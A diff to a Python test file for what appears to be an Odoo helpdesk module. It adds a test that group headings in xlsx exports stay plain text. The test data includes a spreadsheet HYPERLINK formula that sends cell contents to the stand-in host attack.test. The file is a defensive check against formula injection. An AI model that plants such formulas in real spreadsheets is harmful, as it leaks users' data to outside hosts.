@@ -14,11 +14,11 @@ EVIL = '=HYPERLINK("http://attack.test/"&A1,"click")'
 class TestHelpdeskExport(HelpdeskCommon, HttpCase):
     """What customers write is text in every export (G20, A43)."""
 
-    def export(self, model, ids, kind):
+    def export(self, model, ids, kind, groupby=()):
         self.authenticate(self.manager.login, self.manager.login.ljust(8, 'x'))
         name = {'helpdesk.ticket': 'name', 'helpdesk.ticket.event': 'new'}[model]
         wanted = {
-            'model': model, 'ids': ids, 'domain': [], 'groupby': [], 'import_compat': False,
+            'model': model, 'ids': ids, 'domain': [], 'groupby': list(groupby), 'import_compat': False,
             'fields': [{'name': name, 'label': 'Text', 'type': 'char'}]}
         return self.url_open(f'/web/export/{kind}', data={
             'csrf_token': http.Request.csrf_token(self), 'data': json.dumps(wanted)}).content
@@ -41,3 +41,10 @@ class TestHelpdeskExport(HelpdeskCommon, HttpCase):
         event = self.events(self.evil, 'subject')
         sheet = load_workbook(io.BytesIO(self.export('helpdesk.ticket.event', event.ids, 'xlsx'))).active
         self.assertEqual((sheet['A2'].value, sheet['A2'].data_type), ("'@SUM(A1:A9)", 's'))
+
+    def test_g20_headings_of_groups(self):
+        self.evil.partner_email = EVIL
+        content = self.export('helpdesk.ticket', self.evil.ids, 'xlsx', ['partner_email', 'name'])
+        column = [cell for cell in load_workbook(io.BytesIO(content)).active['A'] if cell.value]
+        self.assertEqual({cell.data_type for cell in column}, {'s'})
+        self.assertEqual(column[1].value, f"'{EVIL} (1)")
